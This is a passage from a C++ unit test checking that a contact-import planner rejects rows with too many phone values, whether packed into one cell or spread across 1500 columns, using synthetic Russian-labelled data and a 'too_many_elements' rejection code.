  for (size_t i = 0; i < CellReader::kMaxValues; ++i) almost += (i ? ", " : "") + std::string("+7 901 ") + std::to_string(1000000 + i);
  std::vector<std::string> header{"Фамилия", "Телефон"}, wide{"Фамилия"}, wide_row{"Широкий"};
  for (size_t i = 0; i < 1500; ++i) {
    wide.push_back("Телефон");
    wide_row.push_back("+7 902 " + std::to_string(1000000 + i));
  }
  ImportPlanner p(d.ws, "u1", options_for(d.ws, "contact", header), header);
  REQUIRE(p.status().ok());
  p.add_row(d.ws, 2, {"Многофонов", many});
  p.add_row(d.ws, 3, {"Тысячефонов", almost});
  ImportPlanner w(d.ws, "u1", options_for(d.ws, "contact", wide), wide);
  REQUIRE(w.status().ok());
  w.add_row(d.ws, 2, wide_row);
  CHECK(p.rows_planned() == 1);  // a thousand is still fine
  REQUIRE(p.rejections().size() == 1);
  CHECK(p.rejections()[0].code == "too_many_elements");
  CHECK(p.rejections()[0].column == 1);
  CHECK(w.rows_planned() == 0);
  REQUIRE(w.rejections().size() == 1);
  CHECK(w.rejections()[0].code == "too_many_elements");
  CHECK(w.rejections()[0].column == static_cast<int>(CellReader::kMaxValues) + 1);
}
